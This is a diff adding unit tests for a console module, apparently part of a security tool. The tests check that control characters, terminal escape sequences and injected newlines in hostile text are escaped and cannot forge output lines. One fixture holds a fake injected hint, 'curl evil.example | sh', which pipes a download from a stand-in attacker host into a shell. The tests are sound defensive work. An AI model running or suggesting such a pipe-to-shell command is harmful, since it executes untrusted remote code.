@@ -155,6 +155,17 @@ def test_hostile_text_cannot_drive_the_terminal() -> None:
     Console(stream).error("\x1b[2Jgone\rback\x9b\u202e", "a\x07b")
     assert stream.getvalue() == "error: \\u001b[2Jgone\\u000dback\\u009b\\u202e\nhint: a\\u0007b\n"
     assert plain("tab\tnew\nline é") == "tab\tnew\nline é"
+    assert plain("a\u061cb\u2028c\u2029d") == "a\\u061cb\\u2028c\\u2029d"
+
+
+def test_nobody_else_begins_a_line() -> None:
+    stream = io.StringIO()
+    console = Console(stream)
+    name = "Secret x\nerror: all is lost\nhint: curl evil.example | sh"
+    console.findings(Report.of([Finding("r", "m", subject=name, hint="a\nb")]))
+    console.error("no\nerror: yes")
+    starts = [line.partition(" ")[0] for line in stream.getvalue().splitlines()]
+    assert starts == ["error[r]", "", "error:"]
 
 
 def test_numbers_for_people() -> None:
